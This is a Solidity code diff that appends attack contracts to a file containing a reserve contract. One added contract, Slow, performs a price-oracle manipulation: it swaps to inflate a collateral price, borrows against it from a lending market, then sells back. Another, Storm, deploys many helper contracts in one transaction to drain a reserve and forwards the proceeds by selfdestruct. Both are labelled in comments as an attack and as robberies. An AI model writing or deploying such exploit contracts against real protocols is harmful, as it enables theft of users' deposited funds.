@@ -110,3 +110,23 @@ contract SafeReserve {
     function deposit() external payable { require(!paused); balanceOf[msg.sender] += msg.value; }
     function withdraw(uint256 a) external { require(!paused); require(balanceOf[msg.sender] >= a, "own"); balanceOf[msg.sender] -= a; (bool ok,) = msg.sender.call{value: a}(""); require(ok); }
 }
+
+interface IPair { function token0() external view returns (address); function getReserves() external view returns (uint112, uint112, uint32); function swap(uint256, uint256, address, bytes calldata) external; }
+interface ILending { function depositCollateral(uint256) external; function borrow(uint256) external; function collateralPrice() external view returns (uint256); }
+/// The oracle attack with money of its own, a step a transaction: push the price, borrow, push it back.
+contract Slow {
+    IPair immutable pair; IERC20 immutable usdc; IERC20 immutable acme; ILending immutable m; address immutable owner = msg.sender;
+    constructor(IPair p, IERC20 u, IERC20 a, ILending m_) { pair = p; usdc = u; acme = a; m = m_; a.approve(address(m_), type(uint256).max); }
+    function sell(IERC20 token, uint256 amount) public {
+        (uint256 a, uint256 b,) = pair.getReserves(); bool first = pair.token0() == address(token); (uint256 x, uint256 y) = first ? (a, b) : (b, a);
+        token.transfer(address(pair), amount); uint256 fee = amount * 997; uint256 out = fee * y / (x * 1000 + fee);
+        pair.swap(first ? 0 : out, first ? out : 0, address(this), "");
+    }
+    function borrow(uint256 amount) external { uint256 per = m.collateralPrice() * 7500 / 10000; m.depositCollateral(amount * 1e18 / per + 1e12); m.borrow(amount); }
+    function back() external { sell(acme, acme.balanceOf(address(this))); }
+}
+/// Many small robberies, each by a contract that is made for it, in one transaction each.
+contract Storm {
+    constructor(IReserve r, uint256 n, address payable to) payable { for (uint256 i; i < n; i++) { Entrant e = new Entrant{value: msg.value}(r); e.go(1, payable(address(this))); } selfdestruct(to); }
+    receive() external payable {}
+}
